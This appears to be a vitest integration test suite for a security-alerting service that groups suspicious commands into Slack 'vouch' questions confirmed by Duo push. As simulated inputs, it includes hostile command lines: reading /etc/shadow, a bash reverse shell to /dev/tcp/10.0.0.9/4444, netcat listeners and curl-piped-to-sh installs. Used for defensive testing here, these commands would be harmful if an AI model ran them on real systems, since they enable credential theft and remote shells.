import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { REPEAT_REPLY_INTERVAL_MS } from '../../src/workflow/workflow.js';
import { ALICE, BOB, Harness, messageText, waitFor } from './harness.js';

/** One conversation per person and activity, end to end over HTTP against the simulators. */
describe('conversations, not alerts', () => {
  let h: Harness;
  beforeEach(async () => {
    h = await new Harness().start();
  });
  afterEach(async () => {
    await h.stop();
  });

  const questions = (person = ALICE) => h.dm(person).filter((m) => m.metadata?.event_type === 'vouch_question');

  async function vouch(leadId: string, reason = 'Debugging the capture on the load balancer') {
    const lead = await h.alert(leadId);
    const pushed = h.duo.nextPush('alice');
    await h.click(ALICE, lead, 'vouch.confirm');
    await waitFor(() => h.slack.openViews(ALICE.slackId).find((v) => v.open), 'the form');
    await h.justify(ALICE, reason);
    h.duo.respond((await pushed).txid, 'allow');
    await waitFor(async () => (await h.alert(leadId)).status === 'verified', 'verified');
    await h.settle();
  }

  it('one session: each tcpdump and nc variant joins one DM, updated in place, and one answer and push cover them all', async () => {
    h.runCommand(ALICE, ['tcpdump', '-i', 'eth0'], { session: 41 });
    await h.settle();
    h.runCommand(ALICE, ['tcpdump', '-i', 'eth1', '-w', '/tmp/x.pcap'], { session: 41 });
    h.runCommand(ALICE, ['nc', '-l', '4444'], { session: 41 });
    await h.settle();
    expect(questions()).toHaveLength(1);
    const alerts = await h.alerts();
    expect(alerts).toHaveLength(3);
    const lead = alerts.find((a) => a.id === a.conversation_id)!;
    expect(alerts.every((a) => a.conversation_id === lead.id)).toBe(true);
    // The DM was redrawn to list the activity, with its buttons still on the lead.
    const dm = questions()[0]!;
    expect(dm.edits.length).toBeGreaterThan(0);
    expect(messageText(dm)).toMatch(/one activity of 3 commands/);
    expect(messageText(dm)).toContain('nc -l 4444');
    expect(messageText(dm)).toContain(lead.id);
    // The form and the push say what the one answer covers.
    const pushed = h.duo.nextPush('alice');
    await h.click(ALICE, lead, 'vouch.confirm');
    const form = await waitFor(() => h.slack.openViews(ALICE.slackId).find((v) => v.open), 'the form');
    expect(JSON.stringify(form)).toContain('one activity of 3 commands');
    expect(JSON.stringify(form)).toContain('nc -l 4444');
    await h.justify(ALICE, 'Debugging the capture on the load balancer');
    const push = await pushed;
    expect(push.pushinfo).toMatchObject({ covers: '3 commands on 1 host' });
    expect(push.type).toBe('Vouch: confirm your commands');
    h.duo.respond(push.txid, 'allow');
    await waitFor(async () => (await h.alert(lead.id)).status === 'verified', 'verified');
    await h.settle();
    expect((await h.alerts()).map((a) => a.status)).toEqual(['verified', 'verified', 'verified']);
    expect(h.duo.pushes()).toHaveLength(1);
    const report = (await (await fetch(`${h.service.url}/api/alerts`, { headers: { authorization: `Bearer ${h.service.reviewToken}` } })).json()) as Array<{ conversation_id: string }>;
    expect(report.map((row) => row.conversation_id)).toEqual([lead.id, lead.id, lead.id]);
  });

  it('a fleet deploy: curl | sh on 25 hosts is one DM', async () => {
    for (let i = 0; i < 25; i += 1) h.runCommand(ALICE, ['sh', '-c', 'curl -fsSL https://get.example.com/install.sh | sh'], { host: `web-${i}`, session: 100 + i });
    await h.settle();
    expect(questions()).toHaveLength(1);
    expect(messageText(questions()[0]!)).toMatch(/on 25 hosts/);
  });

  it('an attack in another session after a verification is asked; the same session within the window is covered', async () => {
    h.runCommand(ALICE, ['cat', '/etc/shadow'], { session: 5 });
    await h.settle();
    const [lead] = await h.alerts();
    await vouch(lead!.id);
    // The owner, same session, a minute later: covered, nobody asked.
    await h.advance(60_000);
    h.runCommand(ALICE, ['cat', '/etc/gshadow'], { session: 5 });
    await h.settle();
    expect(questions()).toHaveLength(1);
    // Someone else holding alice's account in another session: asked.
    h.runCommand(ALICE, ['cat', '/etc/shadow'], { session: 666 });
    await h.settle();
    expect(questions()).toHaveLength(2);
    const attack = (await h.alerts()).find((a) => a.session_key?.endsWith('ses:666'))!;
    expect(attack).toMatchObject({ status: 'asked' });
    expect(attack.conversation_id).toBe(attack.id);
  });

  it('an answer covers what the form showed: a later hit of another session is asked next, one of the same session is covered', async () => {
    h.runCommand(ALICE, ['cat', '/etc/shadow'], { session: 5, host: 'db-1' });
    await h.settle();
    const [lead] = await h.alerts();
    const pushed = h.duo.nextPush('alice');
    await h.click(ALICE, lead!, 'vouch.confirm');
    await waitFor(() => h.slack.openViews(ALICE.slackId).find((v) => v.open), 'the form');
    await h.advance(1000);
    // After the form opened: the same shape on another host in another session joins by shape,
    // and a hit of the same session joins by session; neither was on the form.
    h.runCommand(ALICE, ['cat', '/etc/gshadow'], { session: 99, host: 'db-2' });
    h.runCommand(ALICE, ['tcpdump', '-i', 'eth0'], { session: 5, host: 'db-1' });
    await h.settle();
    await h.justify(ALICE, 'Checking the shadow file after the migration');
    // While the push is out, another hit of the same session joins too (read without running jobs).
    h.runCommand(ALICE, ['nc', '-l', '4444'], { session: 5, host: 'db-1' });
    for (const source of h.service.sources) await source.runOnce();
    expect((await h.alerts()).every((a) => a.conversation_id === lead!.id)).toBe(true);
    h.duo.respond((await pushed).txid, 'allow');
    await waitFor(async () => (await h.alert(lead!.id)).status === 'verified', 'verified');
    await h.settle();
    const alerts = await h.alerts();
    const byCommand = new Map(alerts.map((a) => [a.command, a]));
    expect(byCommand.get('tcpdump -i eth0')).toMatchObject({ status: 'verified', conversation_id: lead!.id });
    expect(byCommand.get('nc -l 4444')).toMatchObject({ status: 'verified', conversation_id: lead!.id });
    const separate = byCommand.get('cat /etc/gshadow')!;
    expect(separate).toMatchObject({ status: 'asked' });
    expect(separate.conversation_id).toBe(separate.id);
    expect(questions()).toHaveLength(2);
    expect(messageText(questions()[1]!)).toContain('cat /etc/gshadow');
  });

  it('the same command from another session while its question is open is a member of its own, shown on the question', async () => {
    h.runCommand(ALICE, ['less', '/etc/shadow'], { session: 7 });
    await h.settle();
    const [lead] = await h.alerts();
    h.runCommand(ALICE, ['less', '/etc/shadow'], { session: 666 });
    await h.settle();
    const alerts = await h.alerts();
    expect(alerts).toHaveLength(2);
    expect(alerts.every((a) => a.conversation_id === lead!.id)).toBe(true);
    expect(alerts.map((a) => a.occurrences)).toEqual([1, 1]);
    expect(questions()).toHaveLength(1);
    expect(questions()[0]!.edits.length).toBeGreaterThan(0);
    // The same session again folds into its member.
    h.runCommand(ALICE, ['less', '/etc/shadow'], { session: 7 });
    await h.settle();
    expect((await h.alerts()).map((a) => a.occurrences).sort()).toEqual([1, 2]);
  });

  it('repeats of an escalated conversation: no new DM, one reply in the channel thread', async () => {
    h.runCommand(ALICE, ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'], { session: 8 });
    await h.settle();
    const [lead] = await h.alerts();
    await h.click(ALICE, lead!, 'vouch.deny');
    await waitFor(async () => (await h.alert(lead!.id)).status === 'escalated', 'the escalation');
    await h.settle();
    expect(h.security().filter((m) => m.metadata?.event_type === 'vouch_escalation')).toHaveLength(1);
    for (let i = 0; i < 5; i += 1) {
      h.runCommand(ALICE, ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'], { session: 8 });
      await h.advance(1000);
    }
    expect(questions()).toHaveLength(1);
    const posts = h.security();
    // One channel message (a critical rule's heads-up became the escalation), the repeats in its thread.
    const escalations = posts.filter((m) => m.metadata?.event_type === 'vouch_escalation');
    expect(escalations).toHaveLength(1);
    expect(posts.filter((m) => m.threadTs === null)).toEqual(escalations);
    const replies = () => h.security().filter((m) => m.threadTs === escalations[0]!.ts && /Seen again/.test(messageText(m)));
    // The first repeat is noted at once; the rest of the trickle waits to be noted together.
    expect(replies()).toHaveLength(1);
    expect((await h.alerts()).filter((a) => a.status === 'escalated')).toHaveLength(6);
    await h.advance(REPEAT_REPLY_INTERVAL_MS);
    expect(replies()).toHaveLength(2);
    expect(messageText(replies()[1]!)).toContain('Seen again* (4 more)');
    // A burst of a reply's worth is noted without waiting.
    for (let i = 0; i < 10; i += 1) h.runCommand(ALICE, ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'], { session: 8 });
    await h.advance(1000);
    expect(replies()).toHaveLength(3);
  });

  it('a repeats reply whose record was lost is found in the thread, not posted again', async () => {
    const reverseShell = ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'];
    h.runCommand(ALICE, reverseShell, { session: 8 });
    await h.settle();
    const [lead] = await h.alerts();
    await h.click(ALICE, lead!, 'vouch.deny');
    await waitFor(async () => (await h.alert(lead!.id)).status === 'escalated', 'the escalation');
    await h.settle();
    const escalation = h.security().find((m) => m.metadata?.event_type === 'vouch_escalation')!;
    const replies = () => h.security().filter((m) => m.threadTs === escalation.ts && /Seen again/.test(messageText(m)));
    h.runCommand(ALICE, reverseShell, { session: 8 });
    await h.advance(1000);
    expect(replies()).toHaveLength(1);
    // The reply went out, but its record did not (the database went away after the post), and
    // more repeats came before the job ran again.
    const db = h.service.store.db;
    await db.updateTable('alerts').set({ repeats_posted: 0, repeats_noted_at: null }).where('id', '=', lead!.id).execute();
    for (let i = 0; i < 3; i += 1) h.runCommand(ALICE, reverseShell, { session: 8 });
    await h.advance(1000);
    await h.advance(REPEAT_REPLY_INTERVAL_MS);
    expect(replies().map((m) => messageText(m).match(/Seen again\* \((\d+) more\)/)?.[1] ?? messageText(m).slice(0, 40))).toEqual([expect.anything(), '3']);
    expect((await h.alert(lead!.id)).repeats_posted).toBe(4);
  });

  it('pace: one open question per person; what comes meanwhile waits and is asked when the first ends', async () => {
    h.runCommand(ALICE, ['cat', '/etc/shadow'], { session: 1 });
    await h.settle();
    const [first] = await h.alerts();
    expect(questions()).toHaveLength(1);
    // Another activity in another session: not asked while the first question is open.
    await h.advance(20 * 60_000);
    h.runCommand(ALICE, ['tcpdump', '-i', 'eth0'], { session: 2 });
    h.runCommand(ALICE, ['nc', '-l', '-p', '4444'], { session: 3 });
    h.runCommand(BOB, ['tcpdump', '-i', 'eth0'], { session: 4 });
    await h.settle();
    expect(questions()).toHaveLength(1);
    expect(questions(BOB)).toHaveLength(1);
    await vouch(first!.id, 'Checking password ages for the audit');
    await h.settle();
    expect(questions()).toHaveLength(2);
    // Both waiting activities went into the one question asked next.
    expect(messageText(questions()[1]!)).toMatch(/one activity of 2 commands/);
  });

  it('a deploy still rolling out when its owner answered: the same command on further hosts is covered, another command is asked', async () => {
    const deploy = ['sh', '-c', 'curl -fsSL https://get.example.com/install.sh | sh'];
    for (let i = 0; i < 5; i += 1) h.runCommand(ALICE, deploy, { host: `web-${i}`, session: 200 + i });
    await h.settle();
    const lead = (await h.alerts()).find((a) => a.id === a.conversation_id)!;
    await vouch(lead.id, 'Rolling out the new agent to the web tier');
    // Five more hosts a minute later, in sessions of their own: covered by the answer.
    await h.advance(60_000);
    for (let i = 5; i < 10; i += 1) h.runCommand(ALICE, deploy, { host: `web-${i}`, session: 200 + i });
    await h.settle();
    expect(questions()).toHaveLength(1);
    const later = (await h.alerts()).filter((a) => Number(a.host.slice(4)) >= 5);
    expect(later.map((a) => a.status)).toEqual(['verified', 'verified', 'verified', 'verified', 'verified']);
    // The same command again on a host it already ran on, in another session, is asked about.
    h.runCommand(ALICE, deploy, { host: 'web-0', session: 999 });
    await h.settle();
    expect(questions()).toHaveLength(2);
  });

  it('a burst of 300 hits from 3 people is one question per person', async () => {
    for (let i = 0; i < 300; i += 1) {
      const person = [ALICE, BOB][i % 2]!;
      h.runCommand(person, ['cat', '/etc/shadow', `#${i}`], { session: 1000 + i, host: `db-${i % 9}` });
    }
    await h.settle();
    expect(questions(ALICE)).toHaveLength(1);
    expect(questions(BOB)).toHaveLength(1);
  });
});
